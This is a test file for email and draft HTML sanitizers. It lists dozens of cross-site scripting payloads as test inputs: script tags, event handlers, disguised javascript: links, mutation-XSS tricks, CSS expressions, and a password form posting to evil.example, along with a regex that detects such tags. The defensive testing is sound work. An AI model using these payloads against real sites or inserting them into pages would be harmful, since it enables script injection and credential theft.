import { MOST_TAGS, safeHtml, safeMailHtml } from './safe-html.js';

/** What is shown without tags, and what any reader would run. */
const RUNS =
  /<\/?(?:script|iframe|object|embed|svg|math|form|input|button|meta|base)|[\s/"']on\w+\s*=|script:/i;

const RUNNING = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt SRC=https://evil.example/x.js></sCrIpT>',
  'a script without an end': 'Hello <script>alert(1)',
  'a script after an open tag': '<<script>alert(1)//<</script>',
  'a script made by removing one': '<scr<script></script>ipt>alert(1)</scr<script></script>ipt>',
  'a script whose name holds U+0000': '<scr\0ipt>alert(1)</scr\0ipt>',
  'an event handler': '<img src="x" onerror="alert(1)">',
  'an event handler after a slash': '<img/src="x"/onerror=alert(1)>',
  'an event handler after other blanks': '<img\fsrc=x\fonerror=alert(1)>',
  'an event handler in a fragment': '<img src=x onerror=alert(1) ',
  'an event handler after an attribute without an end': '<img title="x><img src=x onerror=alert(1)>',
  'an event handler in grave accents': '<img src=`x`onerror=alert(1)>',
  'a form': '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
  'a form by another element': '<button form="f" formaction="javascript:alert(1)">x</button>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  'a base': '<base href="javascript:alert(1)//">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a javascript: link': '<a href="javascript:alert(1)">x</a>',
  'a javascript: link in disguise': '<a href=" j&#97;va&Tab;scr&NewLine;ipt&colon;alert(1)">x</a>',
  'a javascript: link after what nobody sees': '<a href="\u200b\u0001javascript:alert(1)">x</a>',
  'a vbscript: link': '<a href="vbscript:msgbox(1)">x</a>',
  'a javascript: picture': '<img src="javascript:alert(1)">',
  'an SVG': '<svg onload="alert(1)"><animate onbegin=alert(1) attributeName=x></svg>',
  'a link in an SVG': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  MathML: '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
} as const;

/** Tricks by which what is inert where it is cleaned comes to life where it is shown. */
const MUTATING = {
  'a style in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a title in an SVG': '<svg></p><title><a id="</title><img src=1 onerror=alert(1)>">',
  'a text without scripts': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a text area': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends late': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a section of characters': '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'an instruction': '<?xml><img src=x onerror=alert(1)>?>',
  'an old element for text': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'text to the end': '<plaintext><img src=x onerror=alert(1)>',
} as const;

/** Without style sheets, whose text no reader takes for tags. */
const outsideSheets = (html: string | null): string =>
  (html ?? '').replace(/<style[^>]*>.*?<\/style>/gis, '');

describe.each([
  ['the HTML of a mail', safeMailHtml],
  ['the HTML of a draft', safeHtml],
])('%s', (_, clean) => {
  it.each(Object.entries({ ...RUNNING, ...MUTATING }))('has nothing that runs: %s', (_kind, html) => {
    const tags = outsideSheets(clean(html)).match(/<[^>]*>/g) ?? [];
    for (const tag of tags) expect(tag.replace(/(?:title|alt)="[^"]*"/g, '')).not.toMatch(RUNS);
  });

  it('stays as it is when it is cleaned again', () => {
    for (const html of Object.values({ ...RUNNING, ...MUTATING })) {
      const once = clean(html);
      expect(clean(once!)).toBe(once);
    }
  });

  it.each(['svg+xml', 'svg%2Bxml', 'text', 'x-icon'])('has no data: picture of another kind: %s', (kind) =>
    expect(clean(`<img alt="x" src="data:image/${kind};base64,AAAA">`)).not.toContain('data:'),
  );

  it.each(['png', 'jpeg', 'gif', 'webp'])('keeps a data: picture: %s', (kind) =>
    expect(clean(`<img src="data:image/${kind};base64,AAAA">`)).toContain(
      `src="data:image/${kind};base64,AAAA"`,
    ),
  );

  it('stays as it was written when nothing in it could run', () => {
    const html =
      '<p class="a">Gr&ouml;&szlig;e&nbsp;43 &amp; "more"<br><img src="https://cdn.example/a.png"></p>';
    expect(clean(html)).toBe(html);
  });

  it('has no links to data', () =>
    expect(clean('<a href="data:text/html,<script>alert(1)</script>">x</a>')).toBe('<a>x</a>'));

  it('keeps pictures of other servers and of its files', () => {
    const html = '<img src="https://cdn.example/a.png?b=1" /><img src="cid:logo@acme.example" />';
    expect(clean(html)).toBe(html);
  });

  it('is none with more tags than any document has', () => {
    expect(clean('<b>'.repeat(MOST_TAGS + 1))).toBeNull();
    expect(clean('<'.repeat(1_000_000))).toBeNull();
  });

  it('has no tags deeper than 250, but their text', () => {
    const html = clean(`${'<div>'.repeat(20_000)}deep`)!;
    expect(html.match(/<div>/g)!.length).toBeLessThanOrEqual(250);
    expect(html).toContain('deep');
  });
});

describe('a style sheet in the HTML of a mail', () => {
  it.each([
    'p { color: red } @media (max-width: 600px) { .wide { width: 100% !important } }',
    '@import url(https://fonts.example/a.css); @font-face { src: url(https://fonts.example/a.woff2) }',
    'div { background: url("https://cdn.example/a.png") }',
    'td > p { scroll-behavior: smooth; overscroll-behavior: none }',
    '<!-- p { color: red } -->',
    'p { background: url(data:image/png;base64,AAAA) }',
  ])('is kept as it was written: %s', (sheet) =>
    expect(safeMailHtml(`<style>${sheet}</style>`)).toBe(`<style>${sheet}</style>`),
  );

  it('is kept on another server, in a link and nothing else there', () => {
    const sheet = '<link rel="stylesheet" href="https://fonts.example/a.css" media="screen" />';
    expect(safeMailHtml(`<head>${sheet}</head>`)).toBe(sheet);
    for (const other of [
      '<link rel="import" href="https://evil.example">',
      '<link rel="stylesheet prefetch" href="https://evil.example">',
      '<link rel="dns-prefetch" href="https://evil.example">',
      '<link rel="stylesheet" href="data:text/css,p{}">',
      '<link rel="stylesheet" href="javascript:alert(1)">',
      '<link href="https://evil.example">',
    ])
      expect([other, safeMailHtml(other)]).toEqual([other, '']);
  });

  it.each([
    'p { width: expression(alert(1)) }',
    'p { behavior: url(https://evil.example/x.htc) }',
    'p { -moz-binding: url(https://evil.example/x.xml#y) }',
    'p { background: url(javascript:alert(1)) }',
    'p { background: url(java\0script:alert(1)) }',
    '@import url(data:text/css,p{});',
    'p { background: url(data:image/svg+xml,x) }',
    '<\0/style><img src=x onerror=alert(1)>',
  ])('is gone if it could run: %j', (sheet) =>
    expect(safeMailHtml(`<style>${sheet}</style>Hello`)).toBe('Hello'),
  );

  it('that is nested too deep is gone with its text, which would be tags without it', () => {
    for (const depth of [248, 249, 250, 251, 999, 1_000, 1_001]) {
      const html = safeMailHtml(`${'<div>'.repeat(depth)}<style><img src=x onerror=alert(1)></style>`);
      expect([depth, outsideSheets(html).replace(/<\/?div>/g, '')]).toEqual([depth, '']);
    }
  });

  it.each([
    '<style/>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>',
    '<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<style><style></style><img src=x onerror=alert(1)></style>',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<p><style><p title="</style><img src=x onerror=alert(1)>">',
  ])('ends where every reader ends it: %s', (html) =>
    expect(outsideSheets(safeMailHtml(html))).not.toContain('onerror'),
  );
});

describe('a background in the HTML of a mail', () => {
  it.each(['https://cdn.example/a.png', '//cdn.example/a.png', 'cid:a@b', 'data:image/png;base64,AAAA'])(
    'is kept: %s',
    (url) => {
      const html = `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`;
      expect(safeMailHtml(html)).toBe(html);
    },
  );

  it.each(['javascript:alert(1)', 'data:image/svg+xml,x', 'tel:1', 'java\tscript:alert(1)'])(
    'of another kind is gone: %j',
    (url) => expect(safeMailHtml(`<table background="${url}"></table>`)).toBe('<table></table>'),
  );
});
